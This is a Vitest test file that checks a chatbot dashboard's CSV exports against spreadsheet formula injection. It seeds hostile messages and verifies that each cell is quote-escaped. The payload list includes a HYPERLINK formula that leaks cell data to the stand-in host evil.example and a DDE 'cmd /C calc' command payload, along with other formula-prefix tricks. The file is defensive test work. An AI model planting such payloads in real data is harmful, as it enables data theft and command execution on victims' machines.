import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SCRIPTED_CALL_HEADER } from '@steward/contract/scripted-calls';
import type { ApiClient } from '../test/api-client.ts';
import { botPost } from '../test/bot-test-support.ts';
import { formulaIn, readAsSpreadsheet } from '../test/spreadsheet-csv.ts';
import { createTestApp, type TestApp } from '../test/test-app.ts';

/**
 * Issue 52: every export, opened as a spreadsheet opens it (Papa Parse, a parser independent of the writer, where any
 * line break outside quotes ends a row), has one row per record and no cell that starts a formula, whatever the
 * visitors typed: line breaks before a formula, formulas after a separator, full-width signs.
 */
let testApp: TestApp;
let admin: ApiClient;

const HOSTILE_TEXTS = [
  'Where is my order?\r\n=HYPERLINK("https://evil.example/?"&A1,"Click")',
  'Second line below\n+SUM(1;2)',
  'A lone carriage return\r@SUM(A1)',
  '-2+3+cmd|\' /C calc\'!A0',
  '\uFF1D1+2 in full width',
  'fine;=1+2',
  'fine, "=1+2"',
  '\t=1+2',
];

beforeAll(async () => {
  testApp = await createTestApp();
  admin = (await testApp.signedInClient('admin')).client;
  for (const [index, text] of HOSTILE_TEXTS.entries()) {
    const exchange = await botPost(testApp, '/api/bot/messages', { session_id: `spreadsheet-${index}`, user_message: text, api_response: `<p>${text}</p>`, time: `2030-01-0${index + 1}T10:00:00Z` });
    expect(exchange.status).toBe(200);
    const rating = await botPost(testApp, '/api/bot/feedback', { history_id: exchange.body.data?.rows[0]?.id, rating: 'down', user_feedback: text, reason: [text] });
    expect(rating.status).toBe(200);
  }
  const help = await botPost(testApp, '/api/bot/help-requests', { session_id: 'spreadsheet-0', name: '=Eve', email: 'eve@example.com', message: HOSTILE_TEXTS.join('\n'), time: '2030-01-09T10:00:00Z' });
  expect(help.status).toBe(200);
  // Its audit entry's label quotes the request: "Name: message".
  expect((await admin.post(`/api/help-requests/${String(help.body.data?.rows[0]?.id)}/resolve`)).status).toBe(200);
});
afterAll(() => testApp.close());

/** The exported file as text, fetched as the dashboard fetches it. */
async function download(path: string): Promise<string> {
  const response = await fetch(`${admin.baseUrl}${path}`, { headers: { cookie: `steward_session=${admin.sessionCookie ?? ''}`, [SCRIPTED_CALL_HEADER.name]: SCRIPTED_CALL_HEADER.value } });
  expect(response.status, path).toBe(200);
  return response.text();
}

// The audit log under one action: each export adds an entry of its own, so the whole log grows between two exports.
describe.each([['history'], ['feedback'], ['help-requests'], ['audit-log', '&action=help_request_resolved']])('GET /api/export/%s as CSV, opened as a spreadsheet', (list, filter = '') => {
  it('has one row per record, each as wide as the header, and no cell or part of one that starts a formula', async () => {
    const records = (await download(`/api/export/${list}?format=jsonl${filter}`)).split('\n').filter((line) => line !== '');
    const [header = [], ...rows] = readAsSpreadsheet(await download(`/api/export/${list}?format=csv${filter}`));
    expect(records.length).toBeGreaterThan(0);
    expect(rows).toHaveLength(records.length);
    expect(rows.filter((row) => row.length !== header.length)).toEqual([]);
    expect(rows.flatMap((row) => row.map(formulaIn)).filter((cell) => cell !== undefined)).toEqual([]);
  });
});

describe('the cells of a hostile text', () => {
  it('keep the text whole in one cell, a single quote before each formula character where a cell could begin', async () => {
    const [header = [], ...rows] = readAsSpreadsheet(await download('/api/export/history?format=csv'));
    const messages = rows.map((row) => row[header.indexOf('user_message')]).reverse();
    expect(messages).toEqual([
      'Where is my order?\n\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
      "Second line below\n'+SUM(1;2)",
      "A lone carriage return\n'@SUM(A1)",
      "'-2+3+cmd|' /C calc'!A0",
      "'\uFF1D1+2 in full width",
      "fine;'=1+2",
      'fine, "\'=1+2"',
      "'\t'=1+2",
    ]);
  });
});
